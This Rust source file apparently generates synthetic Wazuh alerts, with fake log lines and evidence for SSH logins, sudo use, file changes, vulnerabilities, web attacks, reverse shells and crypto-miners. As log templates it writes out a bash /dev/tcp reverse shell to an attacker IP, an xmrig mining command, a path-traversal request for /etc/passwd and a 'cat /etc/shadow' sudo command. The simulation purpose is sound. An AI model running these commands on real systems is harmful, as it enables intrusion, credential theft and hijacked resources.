//! What each Wazuh rule saw: the raw log line (`full_log`), where it was read, and the users,
//! addresses, files and processes it names as evidence.

use super::rules::{Play, Rule};
use crate::catalog::devices::{Device, WORKSTATION_POOL};
use crate::catalog::files::{FileInfo, APACHE, BASH, SUDO, XMRIG};
use crate::catalog::network::HOSTILE_IPS;
use crate::catalog::people::USERS;
use crate::detection::Detection;
use crate::evidence::host::{self, OnHost, Process, Sensor};
use crate::evidence::identity::{self, Account};
use crate::evidence::network::{self, Address};
use crate::evidence::Part;
use crate::fingerprint;
use crate::scene::Scene;
use model::enums::{EvidenceRole as R, EvidenceVerdict as V};
use time::OffsetDateTime;

/// The log side of an alert.
#[derive(Debug)]
pub(crate) struct Story {
    pub full_log: Option<String>,
    pub location: &'static str,
    pub decoder: &'static str,
}

const ATTACKER: Part = Part::new(&[R::Attacker, R::Source], &[], V::Suspicious);
const SOURCE: Part = Part::new(&[R::Source], &[], V::Unknown);
const TARGET_ACCOUNT: Part = Part::new(&[R::Attacked], &[], V::Unknown);
const CHANGED: Part = Part::new(&[R::Edited], &[], V::Suspicious);
const BAD: Part = Part::new(&[R::Created], &[], V::Malicious);
const ACTOR: Part = Part::new(&[R::Suspicious], &[], V::Suspicious);

const INVALID_USERS: &[&str] = &["admin", "oracle", "ubuntu", "test", "pi", "postgres", "git"];
const WATCHED: &[(&str, &str)] = &[
    ("/etc", "passwd"),
    ("/etc/ssh", "sshd_config"),
    ("/usr/bin", "ps"),
    ("/etc", "crontab"),
    ("/var/www/html", "index.php"),
];
const DROPPED: &[(&str, &str)] = &[
    ("/var/www/html/uploads", "shell.php"),
    ("/etc/cron.d", "sysupdate"),
    ("/root/.ssh", "authorized_keys"),
    ("/tmp/.x", "xmrig"),
];
const VULNERABLE: &[(&str, &str, &str)] = &[
    ("CVE-2021-3156", "sudo", "1.8.31-1ubuntu1"),
    ("CVE-2024-6387", "openssh-server", "1:8.9p1-3ubuntu0.6"),
    ("CVE-2023-38408", "openssh-client", "1:8.9p1-3ubuntu0.1"),
    ("CVE-2022-0778", "openssl", "3.0.2-0ubuntu1.1"),
];
const MONTHS: [&str; 12] = [
    "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
];

/// `Mar  5 16:07:34` (syslog's timestamp).
fn syslog_time(t: OffsetDateTime) -> String {
    let month = MONTHS[usize::from(u8::from(t.month())) - 1];
    format!(
        "{month} {:>2} {:02}:{:02}:{:02}",
        t.day(),
        t.hour(),
        t.minute(),
        t.second()
    )
}

/// `05/Mar/2025:16:07:34 +0000` (web access logs).
fn access_time(t: OffsetDateTime) -> String {
    let month = MONTHS[usize::from(u8::from(t.month())) - 1];
    format!(
        "{:02}/{month}/{}:{:02}:{:02}:{:02} +0000",
        t.day(),
        t.year(),
        t.hour(),
        t.minute(),
        t.second()
    )
}

/// Tells `rule`'s story on `agent`, adding its evidence to `det`.
pub(crate) fn tell(
    scene: &mut Scene<'_>,
    det: &mut Detection,
    rule: &Rule,
    agent: &'static Device,
) -> Story {
    let when = syslog_time(scene.time.last_activity);
    let pid = scene.dice.between(1000, 250_000);
    let at = OnHost {
        device: agent,
        alias: "root",
        detection: None,
        sensor: Sensor::Agent,
    };
    match rule.play {
        Play::SshAccepted | Play::PamSession => login(scene, det, rule.play, (&when, pid, agent)),
        Play::SshFailed => failed_login(scene, det, rule.id, (&when, pid, agent)),
        Play::Sudo => sudo(scene, det, at, (&when, agent)),
        Play::FileChanged | Play::FileAdded | Play::Rootcheck => {
            file_event(scene, det, rule.play, at)
        }
        Play::Vulnerability => vulnerability(scene, det),
        Play::WebAttack | Play::WebScan => web(scene, det, rule.play),
        Play::ReverseShell | Play::Miner => execution(scene, det, rule.play, at),
    }
}

fn login(
    scene: &mut Scene<'_>,
    det: &mut Detection,
    play: Play,
    (when, pid, agent): (&str, i64, &Device),
) -> Story {
    let admins: Vec<_> = USERS.iter().filter(|u| u.admin).collect();
    let (name, account) = if scene.dice.chance(0.4) {
        ("root", Account::Local("root"))
    } else {
        let u = *scene.dice.pick(&admins);
        (u.alias, Account::Member(u))
    };
    let (source, part) = if scene.dice.chance(0.5) {
        (
            Address::Public(scene.dice.pick_skewed(HOSTILE_IPS)),
            ATTACKER,
        )
    } else {
        (
            Address::Private(scene.dice.pick_skewed(WORKSTATION_POOL).ip),
            SOURCE,
        )
    };
    det.evidence
        .push(identity::user(scene, account, TARGET_ACCOUNT));
    det.evidence.push(network::ip(scene, source, part));
    let port = scene.dice.between(32768, 60999);
    let key = scene.dice.hex(43);
    let full_log = if play == Play::SshAccepted {
        format!("{when} {} sshd[{pid}]: Accepted publickey for {name} from {} port {port} ssh2: RSA SHA256:{key}", agent.host, source.text())
    } else {
        let uid = if name == "root" {
            0
        } else {
            1000 + fingerprint::number(name, 1, 400)
        };
        format!("{when} {} sshd[{pid}]: pam_unix(sshd:session): session opened for user {name}(uid={uid}) by (uid=0)", agent.host)
    };
    Story {
        full_log: Some(full_log),
        location: "/var/log/auth.log",
        decoder: if play == Play::SshAccepted {
            "sshd"
        } else {
            "pam"
        },
    }
}

fn failed_login(
    scene: &mut Scene<'_>,
    det: &mut Detection,
    rule_id: u32,
    (when, pid, agent): (&str, i64, &Device),
) -> Story {
    let ip = scene.dice.pick_skewed(HOSTILE_IPS);
    let port = scene.dice.between(32768, 60999);
    let (name, line) = if rule_id == 5763 {
        (
            "root",
            format!(
                "Failed password for root from {} port {port} ssh2",
                ip.address
            ),
        )
    } else {
        let u = *scene.dice.pick(INVALID_USERS);
        (
            u,
            format!("Invalid user {u} from {} port {port}", ip.address),
        )
    };
    det.evidence
        .push(network::ip(scene, Address::Public(ip), ATTACKER));
    det.evidence
        .push(identity::user(scene, Account::Local(name), TARGET_ACCOUNT));
    Story {
        full_log: Some(format!("{when} {} sshd[{pid}]: {line}", agent.host)),
        location: "/var/log/auth.log",
        decoder: "sshd",
    }
}

fn sudo(
    scene: &mut Scene<'_>,
    det: &mut Detection,
    at: OnHost,
    (when, agent): (&str, &Device),
) -> Story {
    let admins: Vec<_> = USERS.iter().filter(|u| u.admin).collect();
    let user = *scene.dice.pick(&admins);
    let command = *scene.dice.pick(&[
        "/usr/bin/systemctl restart nginx",
        "/usr/bin/cat /etc/shadow",
        "/usr/bin/apt-get install -y nmap",
        "/bin/bash",
    ]);
    let p = Process {
        image: &SUDO,
        command_line: format!("sudo {command}"),
        parent: &BASH,
        account: Account::Member(user),
    };
    det.evidence.push(host::process(
        scene,
        p,
        OnHost {
            alias: user.alias,
            ..at
        },
        ACTOR,
    ));
    det.evidence
        .push(identity::user(scene, Account::Member(user), ACTOR));
    let full_log = format!(
        "{when} {} sudo: {} : TTY=pts/0 ; PWD=/home/{} ; USER=root ; COMMAND={command}",
        agent.host, user.alias, user.alias
    );
    Story {
        full_log: Some(full_log),
        location: "/var/log/auth.log",
        decoder: "sudo",
    }
}

fn file_event(scene: &mut Scene<'_>, det: &mut Detection, play: Play, at: OnHost) -> Story {
    let (directory, name) = match play {
        Play::FileAdded => *scene.dice.pick(DROPPED),
        Play::Rootcheck => ("/usr/bin", "ps"),
        _ => *scene.dice.pick(WATCHED),
    };
    let size = fingerprint::number(
        &format!("{}:{directory}/{name}", at.device.host),
        400,
        160_000,
    );
    let file = FileInfo {
        name,
        directory,
        size,
        signer: None,
    };
    let part = if play == Play::FileChanged {
        CHANGED
    } else {
        BAD
    };
    det.evidence.push(host::file(scene, &file, at, part));
    let path = format!("{directory}/{name}");
    match play {
        Play::Rootcheck => {
            let log = format!("Trojaned version of file '{path}' detected. Signature used: '/dev/ttyo|.1proc|proc.h|bash|^/bin/sh' (Generic).");
            det.description = log.clone();
            Story {
                full_log: Some(log),
                location: "rootcheck",
                decoder: "rootcheck",
            }
        }
        Play::FileAdded => Story {
            full_log: Some(format!("File '{path}' added\nMode: realtime")),
            location: "syscheck",
            decoder: "syscheck_new_entry",
        },
        _ => {
            let hashes = file.hashes();
            let log = format!("File '{path}' modified\nMode: realtime\nChanged attributes: size,mtime,md5,sha1,sha256\nSize changed from '{}' to '{size}'\nNew md5sum is : '{}'\nNew sha1sum is : '{}'", size - 37, hashes.md5, hashes.sha1);
            Story {
                full_log: Some(log),
                location: "syscheck",
                decoder: "syscheck_integrity_changed",
            }
        }
    }
}

fn vulnerability(scene: &mut Scene<'_>, det: &mut Detection) -> Story {
    let (cve, package, version) = *scene.dice.pick(VULNERABLE);
    det.title = format!("{cve} affects {package}");
    det.description = format!("{cve} affects {package} {version} installed on the agent. Update the package to a fixed version.");
    det.mitre = Vec::new();
    Story {
        full_log: None,
        location: "vulnerability-detector",
        decoder: "json",
    }
}

fn web(scene: &mut Scene<'_>, det: &mut Detection, play: Play) -> Story {
    let ip = scene.dice.pick_skewed(HOSTILE_IPS);
    let when = access_time(scene.time.last_activity);
    let (request, status, agent) = if play == Play::WebAttack {
        (
            "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1",
            200,
            "Mozilla/5.0 (X11; Linux x86_64)",
        )
    } else {
        (
            "GET /wp-login.php HTTP/1.1",
            404,
            "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
        )
    };
    det.evidence
        .push(network::ip(scene, Address::Public(ip), ATTACKER));
    if play == Play::WebAttack {
        let url = "http://www.contoso.com/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd";
        det.evidence
            .push(network::url(scene, url, Part::new(&[], &[], V::Malicious)));
    }
    let bytes = scene.dice.between(180, 5200);
    let log = format!(
        "{} - - [{when}] \"{request}\" {status} {bytes} \"-\" \"{agent}\"",
        ip.address
    );
    Story {
        full_log: Some(log),
        location: "/var/log/apache2/access.log",
        decoder: "web-accesslog",
    }
}

fn execution(scene: &mut Scene<'_>, det: &mut Detection, play: Play, at: OnHost) -> Story {
    let ip = scene.dice.pick_skewed(HOSTILE_IPS);
    let (image, parent, command, args) = if play == Play::ReverseShell {
        let shell = format!("bash -i >& /dev/tcp/{}/4444 0>&1", ip.address);
        let args = format!("argc=3 a0=\"bash\" a1=\"-c\" a2=\"{shell}\"");
        (&BASH, &APACHE, format!("bash -c \"{shell}\""), args)
    } else {
        let args = format!(
            "argc=3 a0=\"/tmp/.x/xmrig\" a1=\"-o\" a2=\"{}:3333\"",
            ip.address
        );
        (
            &XMRIG,
            &BASH,
            format!(
                "/tmp/.x/xmrig -o {}:3333 -k --tls --donate-level 0",
                ip.address
            ),
            args,
        )
    };
    let account = Account::Local("www-data");
    let p = Process {
        image,
        command_line: command,
        parent,
        account,
    };
    det.evidence.push(host::process(scene, p, at, BAD));
    if play == Play::Miner {
        det.evidence.push(host::file(scene, &XMRIG, at, BAD));
    }
    let c2 = Part::new(&[R::CommandAndControl, R::Destination], &[], V::Malicious);
    det.evidence
        .push(network::ip(scene, Address::Public(ip), c2));
    let serial = scene.dice.between(1000, 99_999);
    let t = scene.time.last_activity;
    let log = format!(
        "type=EXECVE msg=audit({}.{:03}:{serial}): {args}",
        t.unix_timestamp(),
        t.millisecond()
    );
    Story {
        full_log: Some(log),
        location: "/var/log/audit/audit.log",
        decoder: "auditd",
    }
}
